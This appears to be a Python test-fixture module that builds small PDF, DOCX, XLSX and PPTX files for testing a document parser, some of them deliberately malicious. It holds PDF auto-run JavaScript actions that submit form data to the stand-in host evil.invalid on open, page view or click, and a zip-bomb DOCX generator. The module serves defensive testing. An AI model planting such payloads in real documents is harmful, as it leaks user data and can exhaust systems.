"""Small documents, made here: PDF, Word, Excel, PowerPoint, and some that mean harm."""

import io
import zipfile

WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
SLIDES = "http://schemas.openxmlformats.org/presentationml/2006/main"


# What a PDF may try when it is opened, when a page is shown, and when a page is pressed anywhere.
RUN = "<< /S /JavaScript /JS (app.alert\\(1\\); top.harmed = 1; this.submitForm\\('https://evil.invalid/'\\);) >>"
PRESSED = "/Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0]"
OPENED = f"/OpenAction {RUN} /Names << /JavaScript << /Names [(a) {RUN}] >> >>"
SHOWN = (
    f"/AA << /O {RUN} >> /Annots [<< {PRESSED} /A << /S /URI /URI (https://evil.invalid/link) >> >> "
    f"<< {PRESSED} /A {RUN} >> << /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (typed) /Rect [72 600 300 640] >>"
    "]"
)


def pdf(*pages: str, opened: str = "", shown: str = "") -> bytes:
    """One line of ASCII text on each page; an empty one is a page without text. The rest: OPENED, SHOWN."""
    objects = [f"<< /Type /Catalog /Pages 2 0 R {opened} >>", ""]
    numbers = [4 + 2 * at for at in range(len(pages))]
    kids = " ".join(f"{number} 0 R" for number in numbers)
    objects[1] = f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>"
    objects.append("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    for number, text in zip(numbers, pages, strict=True):
        stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET" if text else ""
        inside = f"/Resources << /Font << /F1 3 0 R >> >> /Contents {number + 1} 0 R {shown}"
        objects.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] {inside} >>")
        objects.append(f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream")
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += "".join(f"{place:010d} 00000 n \n" for place in places).encode()
    out += f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def locked(content: bytes, password: str) -> bytes:
    """A PDF that opens only with that password."""
    from pypdf import PdfReader, PdfWriter

    out = io.BytesIO()
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(content)))
    writer.encrypt(password, algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def zipped(**members: str | bytes) -> bytes:
    """`__` in a name is a slash, and `_x` at its end an ending: word__document_xml."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/").replace("_xml", ".xml"), content)
    return out.getvalue()


def docx(*paragraphs: str) -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in paragraphs)
    return zipped(word__document_xml=f'<w:document xmlns:w="{WORDS}"><w:body>{body}</w:body></w:document>')


def pptx(*slides: str) -> bytes:
    made = {
        f"ppt__slides__slide{number}_xml": f'<p:sld xmlns:p="{SLIDES}" xmlns:a="{DRAWING}"><a:p><a:r><a:t>{text}'
        "</a:t></a:r></a:p></p:sld>"
        for number, text in enumerate(slides, 1)
    }
    return zipped(ppt__presentation_xml="<p/>", **made)


def xlsx(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    book, out = Workbook(), io.BytesIO()
    for row in rows:
        book.active.append(row)
    book.save(out)
    return out.getvalue()


def bomb(megabytes: int) -> bytes:
    """A Word file with one paragraph that unpacks to that much."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("word/document.xml", "w") as member:
        member.write(f'<w:document xmlns:w="{WORDS}"><w:body><w:p><w:r><w:t>'.encode())
        for _ in range(megabytes):
            member.write(b"A" * 1_000_000)
        member.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return out.getvalue()
